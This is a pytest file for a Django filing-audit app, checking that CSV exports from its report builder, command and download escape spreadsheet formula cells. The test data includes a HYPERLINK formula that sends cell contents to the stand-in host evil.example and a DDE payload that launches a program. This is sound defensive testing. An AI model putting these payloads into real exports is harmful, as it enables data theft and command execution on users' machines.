# ruff: noqa: F811  (pytest fixtures imported from test_reports_fixtures are redefined as arguments)
"""Every CSV the project writes (the filing audit: built, from the command, downloaded)
writes a cell a spreadsheet would run as a formula as text (OWASP: a leading ')."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command

from review.reports import audit_report, build
from review.reports.spreadsheet import safe_cell, writer
from review.states import Role
from tests.conftest import make_user
from tests.test_reports_fixtures import (  # noqa: F401  (fixtures)
    D,
    city_government,
    civil_affairs,
    justice,
    published,
)

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1", FORMULA]
)
def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(cell):
    assert safe_cell(cell).startswith("'")
    assert safe_cell(cell).lstrip("'").strip() != ""


def test_ordinary_text_and_the_numbers_the_code_writes_stay_as_they_are():
    for text in ("安民发〔2020〕5号", "2020-03-02", "0.8889", "", "合计", "a=b"):
        assert safe_cell(text) == text
    assert safe_cell(-3) == -3 and safe_cell(0) == 0  # ints: the report's counts


def test_the_csv_writer_escapes_every_cell_of_every_row():
    out = StringIO()
    writer(out).writerows([["=cmd|' /C calc'!A0", 1], ["标题", "@SUM(1)"]])
    assert list(csv.reader(StringIO(out.getvalue()))) == [
        ["'=cmd|' /C calc'!A0", "1"],
        ["标题", "'@SUM(1)"],
    ]


def _rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _no_cell_runs(rows):
    return not any(cell.startswith(TRIGGERS) for row in rows for cell in row)


@pytest.fixture
def formula_title(civil_affairs):
    """Published in June 2020 and never filed: a 瞒报漏报 violation row with its title."""
    return published(civil_affairs, FORMULA, D(2020, 6, 1))


def test_the_audit_report_csv_writes_a_formula_title_as_text(formula_title):
    report = audit_report.compute(authority="aksfj", year=2020, today=D(2021, 1, 10))

    rows = _rows(build("filing_audit", report, "csv"))

    assert [row[3] for row in rows if row and row[0] == "never_filed"] == ["'" + FORMULA]
    assert _no_cell_runs(rows)
    body = next(row for row in rows if row and row[0] == "akmz")
    assert body[2:5] == ["1", "1", "0"]  # counts stay numbers: issued, due, filed


def test_the_filing_audit_command_writes_a_formula_title_as_text(formula_title, tmp_path):
    target = tmp_path / "audit.csv"
    args = ["--authority", "aksfj", "--year", "2020", "--today", "2021-01-10", "--format", "csv"]

    call_command("filing_audit", *args, "--output", str(target), stdout=StringIO())
    out = StringIO()
    call_command("filing_audit", *args, stdout=out)

    for data in (target.read_bytes(), out.getvalue().encode("utf-8")):
        rows = _rows(data)
        assert ["'" + FORMULA] == [row[3] for row in rows if row and row[0] == "never_filed"]
        assert _no_cell_runs(rows)


def test_the_audit_csv_download_writes_a_formula_title_as_text(client, formula_title, justice):
    client.force_login(make_user("sfj-auditor", justice, Role.AUDITOR))

    response = client.get("/reports/filing-audit/", {"year": 2020, "format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows(response.content)
    assert ["'" + FORMULA] == [row[3] for row in rows if row and row[0] == "never_filed"]
    assert _no_cell_runs(rows)
